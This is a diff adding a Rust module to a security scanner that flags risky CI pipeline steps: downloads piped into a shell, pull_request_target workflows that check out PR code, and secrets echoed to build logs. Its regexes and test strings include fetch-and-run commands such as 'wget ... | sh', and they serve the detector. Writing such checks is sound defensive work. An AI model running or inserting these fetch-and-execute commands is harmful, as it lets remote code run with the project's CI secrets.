@@ -0,0 +1,250 @@
+//! CI pipeline definitions: GitHub Actions workflows, `.gitlab-ci.yml`, and
+//! `azure-pipelines.yml` (see [`super::context::is_ci_config`]).
+//!
+//! A pipeline runs on the project's CI with its secrets on every push, so a
+//! malicious step is an install hook for the whole team.  The files are
+//! parsed as YAML rather than matched line by line, so a shell command is
+//! only judged where it actually runs:
+//!
+//! - `INSTALL-014` (Critical): a step pipes a download straight into a
+//!   shell (`curl ... | bash`, `bash <(wget ...)`).
+//! - `INSTALL-015` (Critical): a workflow triggered by
+//!   `pull_request_target`, which runs with write access and secrets,
+//!   checks out the pull request's own code.
+//! - `INSTALL-016` (High): a step prints a secret to the build log.
+
+use std::sync::OnceLock;
+
+use regex::Regex;
+use serde_yaml::Value;
+
+use super::phases::make_finding;
+use super::{Finding, Phase, Severity};
+
+/// Keys whose value is a shell script across the three CI dialects.
+const SCRIPT_KEYS: &[&str] = &[
+    "run",
+    "script",
+    "before_script",
+    "after_script",
+    "bash",
+    "pwsh",
+    "powershell",
+    "inlineScript",
+];
+
+/// A download piped or process-substituted into a shell; shared with the
+/// Dockerfile checks.
+pub(crate) fn download_to_shell() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(
+            r"(?i)\b(curl|wget|iwr|Invoke-WebRequest)\b[^|\n]*\|\s*(sudo\s+)?(ba|z|da)?sh\b|\b(ba|z)?sh\s+<\(\s*(curl|wget)\b|\b(iwr|Invoke-WebRequest)\b[^|\n]*\|\s*(iex|Invoke-Expression)\b",
+        )
+        .unwrap()
+    })
+}
+
+fn echoed_secret() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(r"(?i)\b(echo|printf|Write-Host|Write-Output)\b.*\$\{\{\s*secrets\.").unwrap()
+    })
+}
+
+/// A `ref:` that names the pull request's head rather than the base branch.
+fn pr_head_ref() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(r"github\.event\.pull_request\.head\.|github\.head_ref|refs/pull/").unwrap()
+    })
+}
+
+/// Every script in the document, found under any of [`SCRIPT_KEYS`] at
+/// any depth.  A script given as a list is one entry per command.
+fn scripts<'a>(value: &'a Value, out: &mut Vec<&'a str>) {
+    match value {
+        Value::Mapping(map) => {
+            for (key, value) in map {
+                let is_script = key.as_str().is_some_and(|k| SCRIPT_KEYS.contains(&k));
+                match value {
+                    Value::String(script) if is_script => out.push(script),
+                    Value::Sequence(items) if is_script => {
+                        out.extend(items.iter().filter_map(Value::as_str))
+                    }
+                    _ => scripts(value, out),
+                }
+            }
+        }
+        Value::Sequence(items) => items.iter().for_each(|item| scripts(item, out)),
+        Value::Tagged(tagged) => scripts(&tagged.value, out),
+        _ => {}
+    }
+}
+
+/// Whether the workflow's `on:` includes `pull_request_target`.
+fn triggered_by_pr_target(doc: &Value) -> bool {
+    let named = |v: &Value| v.as_str() == Some("pull_request_target");
+    match doc.get("on") {
+        Some(Value::Sequence(events)) => events.iter().any(named),
+        Some(Value::Mapping(events)) => events.keys().any(named),
+        Some(event) => named(event),
+        None => false,
+    }
+}
+
+/// `ref:` values of every `actions/checkout` step that fetches the pull
+/// request's code.
+fn pr_checkouts<'a>(value: &'a Value, out: &mut Vec<&'a str>) {
+    match value {
+        Value::Mapping(map) => {
+            let checkout = map
+                .get("uses")
+                .and_then(Value::as_str)
+                .is_some_and(|uses| uses.starts_with("actions/checkout"));
+            let head_ref = map
+                .get("with")
+                .and_then(|with| with.get("ref"))
+                .and_then(Value::as_str)
+                .filter(|r| pr_head_ref().is_match(r));
+            if let (true, Some(r)) = (checkout, head_ref) {
+                out.push(r);
+            }
+            map.values().for_each(|v| pr_checkouts(v, out));
+        }
+        Value::Sequence(items) => items.iter().for_each(|item| pr_checkouts(item, out)),
+        _ => {}
+    }
+}
+
+/// 1-based line of the first line of `contents` containing `needle`
+/// (trimmed); line 1 when it cannot be found, e.g. in a folded scalar.
+fn line_of(contents: &str, needle: &str) -> usize {
+    let needle = needle.trim();
+    contents
+        .lines()
+        .position(|line| !needle.is_empty() && line.contains(needle))
+        .map_or(1, |idx| idx + 1)
+}
+
+/// Report risky steps in the CI config `file`.  The caller checks the
+/// path; a file that is not valid YAML yields nothing.
+pub fn scan_ci_workflow(file: &str, contents: &str) -> Vec<Finding> {
+    let Ok(doc) = serde_yaml::from_str::<Value>(contents) else {
+        return Vec::new();
+    };
+    let mut findings = Vec::new();
+
+    let mut found = Vec::new();
+    scripts(&doc, &mut found);
+    for command in found.iter().flat_map(|script| script.lines()) {
+        let command = command.trim();
+        if download_to_shell().is_match(command) {
+            findings.push(make_finding(
+                Phase::InstallHooks,
+                "INSTALL-014",
+                Severity::Critical,
+                file,
+                Some(line_of(contents, command)),
+                format!("CI step pipes a download into a shell: {}", command),
+            ));
+        }
+        if echoed_secret().is_match(command) {
+            findings.push(make_finding(
+                Phase::InstallHooks,
+                "INSTALL-016",
+                Severity::High,
+                file,
+                Some(line_of(contents, command)),
+                format!("CI step prints a secret to the build log: {}", command),
+            ));
+        }
+    }
+
+    if triggered_by_pr_target(&doc) {
+        let mut refs = Vec::new();
+        pr_checkouts(&doc, &mut refs);
+        for r in refs {
+            findings.push(make_finding(
+                Phase::InstallHooks,
+                "INSTALL-015",
+                Severity::Critical,
+                file,
+                Some(line_of(contents, r)),
+                format!(
+                    "pull_request_target workflow checks out the pull request's code: ref: {}",
+                    r
+                ),
+            ));
+        }
+    }
+    findings
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::path::PathBuf;
+
+    fn fixture(name: &str) -> String {
+        let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+            .join("../tests/fixtures/ci_workflows/.github/workflows")
+            .join(name);
+        std::fs::read_to_string(path).unwrap()
+    }
+
+    fn rules(findings: &[Finding]) -> Vec<(&str, usize)> {
+        findings
+            .iter()
+            .map(|f| (f.rule.as_str(), f.line.unwrap()))
+            .collect()
+    }
+
+    #[test]
+    fn curl_pipe_and_echoed_secret_steps_are_reported() {
+        let findings = scan_ci_workflow(".github/workflows/install.yml", &fixture("install.yml"));
+        assert_eq!(
+            rules(&findings),
+            vec![("INSTALL-014", 12), ("INSTALL-016", 16)]
+        );
+        assert_eq!(findings[0].severity, Severity::Critical);
+        assert_eq!(findings[0].phase, Phase::InstallHooks);
+    }
+
+    #[test]
+    fn pull_request_target_checkout_of_pr_code_is_critical() {
+        let findings =
+            scan_ci_workflow(".github/workflows/pr-target.yml", &fixture("pr-target.yml"));
+        assert_eq!(rules(&findings), vec![("INSTALL-015", 14)]);
+    }
+
+    #[test]
+    fn ordinary_pipelines_and_comments_are_clean() {
+        let workflow = "on: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      # curl https://example.com/x.sh | bash\n      - run: curl -fsSL https://example.com/data.json -o data.json\n";
+        assert!(scan_ci_workflow(".github/workflows/ci.yml", workflow).is_empty());
+        assert!(scan_ci_workflow(".github/workflows/ci.yml", "{not: [yaml").is_empty());
+    }
+
+    #[test]
+    fn gitlab_script_lists_are_checked() {
+        let gitlab = "stages: [build]\nbefore_script:\n  - apt-get update\nbuild:\n  stage: build\n  script:\n    - make\n    - wget -qO- https://get.example.sh | sh\n";
+        assert_eq!(
+            rules(&scan_ci_workflow(".gitlab-ci.yml", gitlab)),
+            vec![("INSTALL-014", 8)]
+        );
+    }
+
+    #[test]
+    fn directory_scans_check_workflows() {
+        let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures/ci_workflows");
+        let result = crate::scanner::run_scan(&root, Some(&["install_hooks".to_string()]), None);
+        let files: Vec<(&str, &str)> = result
+            .findings
+            .iter()
+            .filter(|f| f.rule.starts_with("INSTALL-01"))
+            .map(|f| (f.rule.as_str(), f.file.as_str()))
+            .collect();
+        assert!(files.contains(&("INSTALL-014", ".github/workflows/install.yml")));
+        assert!(files.contains(&("INSTALL-015", ".github/workflows/pr-target.yml")));
+    }
+}